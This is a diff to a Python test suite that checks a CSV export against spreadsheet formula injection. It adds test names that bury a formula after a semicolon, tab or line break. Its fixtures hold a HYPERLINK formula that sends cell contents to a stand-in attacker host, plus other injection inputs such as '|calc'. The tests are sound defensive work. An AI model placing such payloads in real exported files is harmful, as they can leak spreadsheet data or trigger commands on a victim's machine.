@@ -2,6 +2,7 @@
 
 import csv
 import io
+import re
 import zipfile
 from dataclasses import replace
 
@@ -15,6 +16,8 @@ from tests.support.forms import AGENT, READ, decided, pending, until
 
 RAHIM = Agent(id=AGENT, name="Rahim", role=Role.AGENT, language="en", team="Khulna")
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+#: Formulas behind what another spreadsheet takes for the end of a cell.
+BURIED = ("x;=1+1", "x\t=1", "x\n@SUM(1)", "x; ＝1", "x\r-2+3")
 INJECTIONS = (FORMULA, "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", " =1", "＝1+1", "|calc", "%x")
 
 
@@ -66,7 +69,16 @@ def test_full_values_come_only_where_they_are_asked_for() -> None:
 def test_a_name_that_is_a_formula_is_text_in_csv(name: str) -> None:
     cell = read_csv(as_file(named(name), "csv"))[1][9]
 
-    assert cell == f"'{name}"
+    assert cell.startswith("'")
+    assert cell.replace("'", "") == name
+
+
+@pytest.mark.parametrize("name", BURIED)
+def test_no_formula_begins_where_another_spreadsheet_splits_a_cell(name: str) -> None:
+    cell = read_csv(as_file(named(name), "csv"))[1][9]
+
+    assert re.split(r"[;\t\r\n]", cell)[1].startswith("'")
+    assert cell.replace("'", "") == name
 
 
 @pytest.mark.parametrize("name", INJECTIONS)
@@ -84,7 +96,9 @@ def test_no_cell_of_a_csv_begins_as_a_formula_and_none_is_split(name: str) -> No
     assert len(rows) == 2
     (cell,) = rows[1]
     assert cell.lstrip("' ")[:1] not in ("=", "+", "-", "@") or cell.startswith("'")
-    assert cell.removeprefix("'") == name.removeprefix("'") or cell == name
+    assert cell.replace("'", "") == name.replace("'", "")
+    for part in re.split(r"[;\t\r\n]", cell)[1:]:
+        assert not part.lstrip().startswith(("=", "+", "-", "@"))
 
 
 def test_bangla_is_read_as_bangla() -> None:
